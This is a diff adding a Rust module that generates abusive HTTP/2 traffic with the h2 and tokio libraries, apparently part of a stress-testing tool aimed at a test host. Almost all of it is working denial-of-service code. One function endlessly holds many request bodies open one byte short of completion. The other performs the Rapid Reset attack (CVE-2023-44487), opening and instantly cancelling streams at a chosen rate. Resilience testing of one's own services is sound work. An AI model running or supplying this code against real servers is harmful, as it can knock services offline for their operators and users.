@@ -1,0 +1,117 @@
+//! Streams of HTTP/2, many on a connection.
+
+use std::future::poll_fn;
+use std::net::{IpAddr, SocketAddr};
+use std::time::Duration;
+
+use h2::client::SendRequest;
+use h2::{Reason, SendStream};
+use hyper::body::Bytes;
+use hyper::{Method, Request};
+use tokio::task::JoinSet;
+
+use crate::client::connect;
+
+/// A part of a body.
+const PART: &[u8] = &[b' '; 16 << 10];
+/// Between a round on a connection and the next.
+const PAUSE: Duration = Duration::from_millis(250);
+/// How long a body is left unfinished.
+const HELD_MAX: Duration = Duration::from_mins(1);
+
+/// A request that is sent on many streams.
+#[derive(Clone, Copy, Debug)]
+pub struct Asked<'a> {
+    /// Its path.
+    pub path: &'a str,
+    /// Its token; none when empty.
+    pub token: &'a str,
+    /// Bytes of its body, all of which but the last are sent.
+    pub bytes: usize,
+}
+
+impl Asked<'_> {
+    fn request(self) -> Result<Request<()>, String> {
+        let mut request = Request::builder()
+            .method(Method::POST)
+            .uri(format!("http://switchboard.test{}", self.path))
+            .header("content-type", "application/json")
+            .header("content-length", self.bytes);
+        if !self.token.is_empty() {
+            request = request.header("authorization", format!("Bearer {}", self.token));
+        }
+        request.body(()).map_err(|error| error.to_string())
+    }
+}
+
+/// Leaves so many bodies unfinished on each of one connection after another.
+pub async fn unfinished(to: SocketAddr, from: IpAddr, asked: Asked<'_>, streams: usize) {
+    loop {
+        // However it ends, the next one comes.
+        let _ = tokio::time::timeout(HELD_MAX, round(to, from, asked, streams)).await;
+        tokio::time::sleep(PAUSE).await;
+    }
+}
+
+async fn round(to: SocketAddr, from: IpAddr, asked: Asked<'_>, streams: usize) -> Result<(), String> {
+    let (mut sender, mut tasks) = begin(to, from).await?;
+    let mut bodies = JoinSet::new();
+    for _ in 0..streams {
+        sender = sender.ready().await.map_err(|error| error.to_string())?;
+        let (answer, body) = sender.send_request(asked.request()?, false).map_err(|error| error.to_string())?;
+        bodies.spawn(async move {
+            let fed = feed(body, asked.bytes - 1);
+            tokio::pin!(fed);
+            tokio::select! {
+                // An answer before the body is whole is the end of it.
+                answered = answer => drop(answered),
+                () = &mut fed => {}
+            }
+        });
+    }
+    tokio::select! {
+        () = async { while bodies.join_next().await.is_some() {} } => {}
+        _ = tasks.join_next() => {}
+    }
+    Ok(())
+}
+
+/// A connection, with what drives it.
+async fn begin(to: SocketAddr, from: IpAddr) -> Result<(SendRequest<Bytes>, JoinSet<()>), String> {
+    let stream = connect(to, from).await.map_err(|error| error.to_string())?;
+    let (sender, connection) = h2::client::handshake(stream).await.map_err(|error| error.to_string())?;
+    let mut tasks = JoinSet::new();
+    tasks.spawn(async move { drop(connection.await) });
+    Ok((sender, tasks))
+}
+
+/// Sends so many bytes as the windows open, and then nothing.
+async fn feed(mut body: SendStream<Bytes>, bytes: usize) {
+    let mut left = bytes;
+    while left > 0 {
+        body.reserve_capacity(left.min(PART.len()));
+        let Some(Ok(room)) = poll_fn(|cx| body.poll_capacity(cx)).await else { return };
+        let part = room.min(left).min(PART.len());
+        if part > 0 && body.send_data(Bytes::from_static(&PART[..part]), false).is_err() {
+            return;
+        }
+        left -= part;
+    }
+    // It is given up by a reset.
+    let _ = poll_fn(|cx| body.poll_reset(cx)).await;
+}
+
+/// Opens streams and resets them at once (CVE-2023-44487), so many a second on one connection after another.
+pub async fn rapid_resets(to: SocketAddr, from: IpAddr, asked: Asked<'_>, a_second: u32) {
+    loop {
+        if let Ok((mut sender, _tasks)) = begin(to, from).await {
+            while let (Ok(ready), Ok(request)) = (sender.ready().await, asked.request()) {
+                sender = ready;
+                let Ok((_, mut body)) = sender.send_request(request, false) else { break };
+                body.send_reset(Reason::CANCEL);
+                tokio::time::sleep(Duration::from_secs(1) / a_second).await;
+            }
+        }
+        tokio::time::sleep(PAUSE).await;
+    }
+}
